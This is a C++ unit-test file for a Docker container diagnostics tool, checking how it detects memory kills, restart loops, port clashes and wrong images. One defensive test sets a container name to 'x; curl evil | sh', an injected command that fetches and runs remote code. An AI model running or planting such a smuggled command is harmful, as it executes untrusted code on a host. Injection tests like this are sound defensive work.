// SPDX-FileCopyrightText: 2026 The Envdeck authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/hosts/scene.h"
#include "tests/core/hosts/host_text.h"
#include "tests/support/text.h"

#include <gtest/gtest.h>

namespace envdeck::hosts {
namespace {

using namespace testing;

Scene recordedScene(const char *file = "probe-docker28.txt")
{
    Scene scene;
    scene.host = s("prod-1");
    scene.facts = recordedHost(file);
    return scene;
}

Scene sceneOf(const QList<ContainerFacts> &containers)
{
    Scene scene;
    scene.host = s("prod-1");
    scene.facts.docker = DockerFacts{s("28.0.0"), {}, {}, false, false, false, 0, 0, {}, {}};
    scene.facts.containers = ContainerList{containers, int(containers.size())};
    const QDateTime now(QDate(2026, 12, 1), QTime(3, 0), Qt::UTC);
    scene.facts.clock = HostClock{now, now, std::chrono::milliseconds(1)};
    return scene;
}

ContainerFacts container(const char *name, ContainerState state = ContainerState::Running)
{
    ContainerFacts facts;
    facts.id = QString::fromLatin1(name).leftJustified(64, u'0');
    facts.name = s(name);
    facts.service = s(name);
    facts.image = ImageRef::parse(s("acme/api:v1"));
    facts.state = state;
    facts.restartPolicy = s("always");
    facts.started = QDateTime(QDate(2026, 12, 1), QTime(1, 0), Qt::UTC);
    return facts;
}

const Finding *about(const QList<Finding> &findings, const char *subject)
{
    const auto found = std::find_if(findings.cbegin(), findings.cend(),
                                    [&](const Finding &finding) { return finding.subject == s(subject); });
    return found == findings.cend() ? nullptr : &*found;
}

Finding onlyOne(const Scene &scene)
{
    const QList<Finding> found = lookAtContainers(scene);
    EXPECT_EQ(found.size(), 1);
    return found.value(0);
}

TEST(ContainerDetectors, TellWhatIsWrongWithEachRecordedContainer)
{
    const QList<Finding> found = lookAtContainers(recordedScene());
    const QList<std::tuple<const char *, Detector, Cause>> expected{
        {"oom", Detector::OutOfMemory, Cause::MemoryLimit},
        {"killed", Detector::NotRunning, Cause::KilledFromOutside},
        {"loop", Detector::Restarting, Cause::ProgramEnds},
        {"sick", Detector::Unhealthy, Cause::HealthCheckFails},
        {"clash", Detector::PortClash, Cause::PortTaken},
        {"nocmd", Detector::NotRunning, Cause::ProgramMissing},
        {"paused", Detector::NotRunning, Cause::StoppedByHand}};
    for (const auto &[name, detector, cause] : expected) {
        const Finding *finding = about(found, name);
        ASSERT_TRUE(finding) << name;
        EXPECT_EQ(finding->detector, detector) << name;
        EXPECT_EQ(finding->cause, cause) << name;
        EXPECT_EQ(finding->verdict, FindingVerdict::LikelyCause) << name;
        EXPECT_FALSE(finding->command.isEmpty()) << name;
    }
    for (const char *fine :
         {"web", "done", "made", "shop-api-1"}) // running, a job that is done, never started
        EXPECT_FALSE(about(found, fine)) << fine;
}

TEST(ContainerDetectors, AFindingCarriesItsEvidence)
{
    const QList<Finding> found = lookAtContainers(recordedScene());
    EXPECT_EQ(about(found, "oom")->facts.value(s("limitBytes")), s("16777216"));
    EXPECT_EQ(about(found, "oom")->facts.value(s("exitCode")), s("137"));
    EXPECT_EQ(about(found, "oom")->action, NextAction::RaiseMemoryLimit);
    EXPECT_EQ(about(found, "clash")->facts.value(s("port")), s("18080"));
    EXPECT_EQ(about(found, "clash")->facts.value(s("holder")), s("web"));
    EXPECT_EQ(about(found, "clash")->command, s("ss -ltnp 'sport = :18080'"));
    EXPECT_EQ(about(found, "sick")->evidence, QStringList{s("HTTP 503 \"bad\" tab")});
    EXPECT_EQ(about(found, "loop")->command, s("docker logs --timestamps --tail 200 535f5cb800ba"));
}

TEST(ContainerDetectors, TasksThatWereReplacedAreHistory)
{
    // Three tasks of "crash" ended; only the newest of the slot speaks.
    const QList<Finding> found = lookAtContainers(recordedScene());
    EXPECT_EQ(std::count_if(found.cbegin(), found.cend(),
                            [](const Finding &finding) { return finding.subject.startsWith(s("crash.")); }),
              1);
}

TEST(ContainerDetectors, AllIsWellOnlyWhenAllWasSeen)
{
    Scene scene = sceneOf({container("api")});
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::NoProblem);
    scene.facts.containers = ContainerList{{container("api")}, 7};
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::CouldNotCheck);
}

TEST(ContainerDetectors, ADaemonThatDoesNotAnswerIsTheCause)
{
    const Finding down = onlyOne(recordedScene("probe-no-daemon.txt"));
    EXPECT_EQ(down.verdict, FindingVerdict::LikelyCause);
    EXPECT_EQ(down.cause, Cause::DockerDown);
    const Finding denied = onlyOne(recordedScene("probe-no-permission.txt"));
    EXPECT_EQ(denied.verdict, FindingVerdict::CouldNotCheck);
    EXPECT_EQ(denied.cause, Cause::NoPermission);
    Scene nothing;
    EXPECT_EQ(onlyOne(nothing).verdict, FindingVerdict::CouldNotCheck);
}

TEST(ContainerDetectors, ExitCodesAreTold)
{
    const auto causeOf = [](int code, const char *policy = "always", const char *error = "") {
        ContainerFacts facts = container("api", ContainerState::Exited);
        facts.exitCode = code;
        facts.restartPolicy = s(policy);
        facts.error = s(error);
        return onlyOne(sceneOf({facts})).cause;
    };
    EXPECT_EQ(causeOf(1), Cause::ProgramEnds);
    EXPECT_EQ(causeOf(127), Cause::ProgramMissing);
    EXPECT_EQ(causeOf(126, "no"), Cause::ProgramMissing);
    EXPECT_EQ(causeOf(137), Cause::KilledFromOutside);
    EXPECT_EQ(causeOf(139), Cause::ProgramEnds);
    EXPECT_EQ(causeOf(143), Cause::StoppedByHand);
    EXPECT_EQ(causeOf(0), Cause::StoppedByHand); // "always" would have started it again
}

TEST(ContainerDetectors, AKillOnAHostWithoutMemoryIsTheHosts)
{
    ContainerFacts facts = container("api", ContainerState::Exited);
    facts.exitCode = 137;
    Scene scene = sceneOf({facts});
    scene.facts.memory = MemoryFacts{1000, 20, 0, 0};
    EXPECT_EQ(onlyOne(scene).cause, Cause::HostMemory);
}

TEST(ContainerDetectors, ALoopIsSeenWhileItIsUpForAMoment)
{
    ContainerFacts facts = container("api");
    facts.restarts = 6;
    facts.started = QDateTime(QDate(2026, 12, 1), QTime(2, 59), Qt::UTC);
    EXPECT_EQ(onlyOne(sceneOf({facts})).detector, Detector::Restarting);
    facts.started = facts.started.addSecs(-7200); // restarted long ago and well since
    EXPECT_EQ(onlyOne(sceneOf({facts})).verdict, FindingVerdict::NoProblem);
}

TEST(ContainerDetectors, ALoopForWantOfMemoryIsNamedSo)
{
    ContainerFacts facts = container("api", ContainerState::Restarting);
    facts.memoryLimitBytes = 256 << 20;
    Scene scene = sceneOf({facts});
    UsageFacts usage;
    usage.ofContainer.insert(facts.id.left(12), {100, 100, 4});
    scene.facts.usage = usage;
    EXPECT_EQ(onlyOne(scene).detector, Detector::OutOfMemory);
    // A child was killed and the main process goes on.
    scene.facts.containers = ContainerList{{container("api")}, 1};
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::Related);
    EXPECT_EQ(onlyOne(scene).facts.value(s("kills")), s("4"));
}

// A task of "api.1" that began so many minutes ago.
ContainerFacts task(const char *id, int minutesAgo, ContainerState state, std::optional<int> exitCode = {})
{
    ContainerFacts facts = container((QByteArray("api.1.") + id).constData(), state);
    facts.task = s(id);
    facts.service = s("api");
    facts.imageId = s("sha256:1");
    facts.exitCode = exitCode;
    facts.created = QDateTime(QDate(2026, 12, 1), QTime(3, 0), Qt::UTC).addSecs(-60 * minutesAgo);
    facts.started = facts.created;
    facts.restartPolicy.clear();
    return facts;
}

TEST(ContainerDetectors, TasksThatFailOneAfterTheOtherAreALoop)
{
    const QList<ContainerFacts> failed{task("c", 3, ContainerState::Exited, 1),
                                       task("b", 4, ContainerState::Exited, 1)};
    const Finding loop =
        onlyOne(sceneOf(QList<ContainerFacts>{task("d", 1, ContainerState::Running)} + failed));
    EXPECT_EQ(loop.detector, Detector::Restarting);
    EXPECT_EQ(loop.facts.value(s("restarts")), s("2"));
    EXPECT_EQ(loop.subject, s("api.1.c")); // the newest that failed: its log tells why
    // Up for an hour since: over.
    EXPECT_EQ(
        onlyOne(sceneOf({task("d", 60, ContainerState::Running), task("c", 63, ContainerState::Exited, 1),
                         task("b", 64, ContainerState::Exited, 1)}))
            .verdict,
        FindingVerdict::NoProblem);
}

TEST(ContainerDetectors, TasksThatSwarmStoppedDidNotFail)
{
    const QList<ContainerFacts> stopped{task("c", 3, ContainerState::Exited, 143),
                                        task("b", 4, ContainerState::Exited, 137),
                                        task("a", 5, ContainerState::Exited, 0)};
    Scene scene = sceneOf(QList<ContainerFacts>{task("d", 1, ContainerState::Running)} + stopped);
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::NoProblem);
    // Swarm knows better than the exit code.
    QList<SwarmTask> tasks;
    for (const char *id : {"c", "b", "a"})
        tasks.append({s(id), s("api.1"), {}, {}, s("Shutdown"), s("Failed"), {}, {}});
    scene.facts.tasks = tasks;
    EXPECT_EQ(onlyOne(scene).detector, Detector::Restarting);
    // Of another version nothing follows for this one.
    QList<ContainerFacts> old = stopped;
    for (ContainerFacts &each : old)
        each.imageId = s("sha256:2");
    scene.facts.containers =
        ContainerList{QList<ContainerFacts>{task("d", 1, ContainerState::Running)} + old, 4};
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::NoProblem);
}

TEST(ContainerDetectors, TasksThatRunOutOfMemoryAreNamedSo)
{
    ContainerFacts first = task("b", 30, ContainerState::Exited, 137);
    first.oomKilled = true;
    first.memoryLimitBytes = 256 << 20;
    ContainerFacts second = first;
    second.id = s("second").leftJustified(64, u'0');
    second.created = second.created.addSecs(600);
    const Finding loop = onlyOne(sceneOf({task("d", 1, ContainerState::Running), first, second}));
    EXPECT_EQ(loop.detector, Detector::OutOfMemory);
    EXPECT_EQ(loop.cause, Cause::MemoryLimit);
    EXPECT_EQ(loop.facts.value(s("restarts")), s("2"));
    EXPECT_EQ(loop.facts.value(s("limitBytes")), QString::number(256 << 20));
    EXPECT_EQ(onlyOne(sceneOf({task("d", 20, ContainerState::Running), first})).verdict,
              FindingVerdict::Related);
}

TEST(ContainerDetectors, WhatIsLeftOfAnEarlierRunIsNoReason)
{
    ContainerFacts left = container("shop-api-run-1", ContainerState::Exited);
    left.service = s("api");
    left.restartPolicy = s("no");
    left.exitCode = 1;
    EXPECT_EQ(onlyOne(sceneOf({left})).verdict, FindingVerdict::LikelyCause);
    EXPECT_EQ(onlyOne(sceneOf({left, container("api")})).verdict, FindingVerdict::Related);
}

TEST(ContainerDetectors, APortThatAProgramOfTheHostHoldsIsAClash)
{
    ContainerFacts facts = container("proxy", ContainerState::Exited);
    facts.exitCode = 128;
    facts.wantedPorts = {{{}, 80, 80, s("tcp")}};
    Scene scene = sceneOf({facts});
    scene.facts.listeners = QList<Listener>{{s("0.0.0.0"), 80, s("nginx")}};
    EXPECT_EQ(onlyOne(scene).detector, Detector::PortClash);
    EXPECT_EQ(onlyOne(scene).facts.value(s("holder")), s("nginx"));
    scene.facts.listeners = QList<Listener>{{s("0.0.0.0"), 8080, s("nginx")}};
    EXPECT_EQ(onlyOne(scene).detector, Detector::NotRunning);
    // Its own proxy listens while it runs.
    facts.state = ContainerState::Running;
    facts.openPorts = facts.wantedPorts;
    scene = sceneOf({facts});
    scene.facts.listeners = QList<Listener>{{s("0.0.0.0"), 80, s("docker-proxy")}};
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::NoProblem);
    // UDP is another port.
    facts.state = ContainerState::Exited;
    facts.wantedPorts = {{{}, 80, 80, s("udp")}};
    facts.openPorts.clear();
    scene.facts.containers = ContainerList{{facts}, 1};
    EXPECT_EQ(onlyOne(scene).detector, Detector::NotRunning);
}

TEST(ContainerDetectors, AnotherVersionThanGitSaysIsNamed)
{
    Scene scene = sceneOf({container("api")});
    scene.app = AppOnHost{{}, {s("api")}, ImageRef::parse(s("acme/api:v2"))};
    EXPECT_EQ(onlyOne(scene).detector, Detector::WrongImage);
    EXPECT_EQ(onlyOne(scene).facts.value(s("wanted")), s("v2"));
    EXPECT_EQ(onlyOne(scene).facts.value(s("running")), s("v1"));
    scene.app->image = ImageRef::parse(s("docker.io/acme/api:v1"));
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::NoProblem);
    scene.app->image = ImageRef::parse(s("acme/other:v9")); // of a companion nothing is said
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::NoProblem);
}

TEST(ContainerDetectors, AMovedTagIsSeenByItsDigest)
{
    ContainerFacts facts = container("api");
    facts.digest = s("sha256:") + QString(64, u'a');
    Scene scene = sceneOf({facts});
    scene.app = AppOnHost{{}, {s("api")}, ImageRef::parse(s("acme/api:v1@sha256:") + QString(64, u'b'))};
    EXPECT_EQ(onlyOne(scene).detector, Detector::WrongImage);
    scene.app->image->digest = facts.digest;
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::NoProblem);
}

TEST(ContainerDetectors, AnAppIsFoundByComposeAndBySwarmNames)
{
    ContainerFacts compose = container("api");
    compose.project = s("shop");
    ContainerFacts swarm = container("shop_api.1.abc");
    swarm.task = s("abc");
    swarm.stack = s("shop");
    swarm.service = s("shop_api");
    const AppOnHost app{{s("shop")}, {s("api")}, {}};
    EXPECT_TRUE(belongsTo(compose, app));
    EXPECT_TRUE(belongsTo(swarm, app));
    EXPECT_FALSE(belongsTo(container("api"), app)); // of another project
    compose.service = s("db");
    EXPECT_FALSE(belongsTo(compose, app));
    ContainerFacts application = container("x");
    application.task = s("t");
    application.service = s("shop-web-llxndw");
    EXPECT_TRUE(belongsTo(application, AppOnHost{{s("shop-web-llxndw")}, {}, {}}));
}

TEST(ContainerDetectors, AnAppWithoutAnyContainerIsNotRunning)
{
    Scene scene = sceneOf({container("db")});
    scene.app = AppOnHost{{}, {s("api")}, {}};
    EXPECT_EQ(onlyOne(scene).detector, Detector::NotRunning);
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::LikelyCause);
    scene.facts.containers = ContainerList{{container("db")}, 2}; // it may be the one that is not known
    EXPECT_EQ(onlyOne(scene).verdict, FindingVerdict::CouldNotCheck);
}

TEST(ContainerDetectors, CommandsHoldNothingThatTheHostNamed)
{
    ContainerFacts facts = container("api", ContainerState::Exited);
    facts.name = s("x; curl evil | sh");
    facts.exitCode = 1;
    const Finding finding = onlyOne(sceneOf({facts}));
    EXPECT_FALSE(finding.command.contains(s("evil")));
    EXPECT_EQ(finding.subject, facts.name);
}

TEST(ContainerDetectors, CommandsGoTheWayTheProbeWent)
{
    ContainerFacts facts = container("api", ContainerState::Restarting);
    Scene scene = sceneOf({facts});
    scene.facts.docker = DockerFacts{s("28"), {}, {}, true, false, false, 0, 0, {}, {}};
    EXPECT_TRUE(onlyOne(scene).command.startsWith(s("sudo docker logs ")));
}

} // namespace
} // namespace envdeck::hosts
